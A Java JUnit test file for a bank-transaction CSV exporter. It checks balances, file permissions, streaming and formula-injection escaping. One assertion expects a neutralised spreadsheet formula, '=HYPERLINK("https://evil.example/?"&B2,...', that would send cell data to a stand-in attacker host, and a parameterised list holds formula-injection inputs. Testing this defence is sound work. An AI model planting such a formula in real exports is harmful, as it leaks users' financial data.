package dev.nakadachi.examples;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.nakadachi.bank.Direction;
import dev.nakadachi.bank.Transaction;
import dev.nakadachi.money.Money;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.LocalDate;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TransactionsToCsvTest {

    private final Screen screen = new Screen();

    @TempDir
    private Path directory;

    /** 1,200 lines of the sandbox's history and the one that the example has posted. */
    @Test
    void aYearBecomesAFileThatAddsUp() throws IOException {
        Path file = directory.resolve("year.csv");
        TransactionsToCsv.run(new String[] {file.toString()}, screen.terminal());

        List<List<String>> rows = CsvReader.read(Files.readString(file));
        assertThat(rows).hasSize(1_202).allSatisfy(row -> assertThat(row).hasSize(8));
        assertThat(rows.get(0))
                .containsExactly(
                        "date", "direction", "amount", "currency", "change", "balance after", "remarks", "key");
        List<String> last = rows.get(1_201);
        assertThat(last.subList(0, 5)).containsExactly("2026-04-15", "in", "1", "JPY", "1");
        assertThat(last.get(6)).startsWith("'=HYPERLINK(\"https://evil.example/?\"&B2,");
        BigDecimal opening = new BigDecimal(rows.get(1).get(5))
                .subtract(new BigDecimal(rows.get(1).get(4)));
        BigDecimal closing =
                rows.stream().skip(1).map(row -> new BigDecimal(row.get(4))).reduce(opening, BigDecimal::add);
        assertThat(closing).isEqualTo(last.get(5));
        assertThat(screen.lastLine())
                .isEqualTo("CSV OK 1,201 transactions, 1 formula made harmless, the last line ends with the balance of "
                        + Words.count(closing.longValueExact()) + " JPY");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                .isEqualTo("rw-------");
    }

    @Test
    void onlyAFewLinesAreAheadOfTheFile() {
        AtomicLong made = new AtomicLong();
        Stream<Transaction> endless = Stream.generate(() -> {
            made.incrementAndGet();
            return line("家賃");
        });
        FullDisk disk = new FullDisk(1_000_000);

        assertThatThrownBy(() -> TransactionsToCsv.write(endless, disk)).isInstanceOf(IOException.class);

        // 42 bytes a line: 1,000,000 bytes are 23,809 lines, and the buffers hold some 16,000 more bytes at most.
        assertThat(made.get()).isBetween(20_000L, 25_000L);
    }

    @Test
    void halfAFileHasNoName() {
        Stream<Transaction> broken = Stream.generate(() -> {
            throw new IllegalStateException("the bank is gone");
        });

        assertThatThrownBy(() -> TransactionsToCsv.write(broken, directory.resolve("year.csv")))
                .isInstanceOf(IllegalStateException.class);

        assertThat(directory).isEmptyDirectory();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+81 3",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\nx",
                "  =1",
                "＝1+1",
                "＋1",
                "－1",
                "＠A1",
                "　=1"
            })
    void aTextThatASpreadsheetWouldRunGetsAnApostrophe(String remarks) throws IOException {
        assertThat(remarksOf(remarks)).isEqualTo("'" + remarks);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "振込 ｶ)ﾃｽﾄ", "a, b", "say \"so\"", "two\r\nlines", "a-b", "x=1", "😀", "'quoted'"})
    void everyOtherTextComesBackAsItWas(String remarks) throws IOException {
        assertThat(remarksOf(remarks)).isEqualTo(remarks);
    }

    @Test
    void halfACharacterEndsNoDownload() throws IOException {
        assertThat(remarksOf("x\uD83D")).isEqualTo("x?");
    }

    private static String remarksOf(String remarks) throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        TransactionsToCsv.write(Stream.of(line(remarks)), file);
        return CsvReader.read(file.toString(UTF_8)).get(1).get(6);
    }

    private static Transaction line(String remarks) {
        return Transaction.builder(LocalDate.of(2026, 4, 1), new Direction(Direction.Kind.OUT, "2"), Money.yen(98_000))
                .remarks(remarks)
                .build();
    }

    /** Takes so many bytes and no more. */
    private static final class FullDisk extends OutputStream {

        private long left;

        FullDisk(long size) {
            left = size;
        }

        @Override
        public void write(int one) throws IOException {
            left--;
            if (left < 0) {
                throw new IOException("no space left");
            }
        }
    }
}
